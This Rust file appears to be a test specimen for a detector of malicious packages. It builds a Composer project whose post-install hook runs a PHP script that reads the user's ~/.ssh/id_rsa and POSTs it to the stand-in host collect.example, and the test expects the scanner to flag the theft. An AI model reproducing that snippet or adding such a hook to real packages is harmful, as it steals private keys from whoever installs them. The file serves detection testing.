//! A PHP package whose `post-install-cmd` runs a PHP file that sends an SSH key. When a project is created from it there is
//! no lock file, and the events are those of an update.
//!
//! Must be found: the project is installed a second time.

use serde_json::json;

use crate::build::Package as _;
use crate::{ComposerPackage, Expect, Specimen};

const SETUP: &str = r"<?php
$secret = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');
$options = ['http' => ['method' => 'POST', 'content' => $secret, 'timeout' => 5]];
@file_get_contents('http://collect.example/setup', false, stream_context_create($options));
";

pub(super) fn specimen() -> Specimen {
    let package = ComposerPackage::new("acme/starter", "1.2.0")
        .field("type", "project".into())
        .field(
            "scripts",
            json!({"post-install-cmd": ["@php tools/setup.php"]}),
        )
        .file("tools/setup.php", SETUP);
    package
        .specimen(
            "composer-project-php",
            Expect::malicious(&["canary-exfiltrated"]),
        )
        .telling("in its project script hook")
}
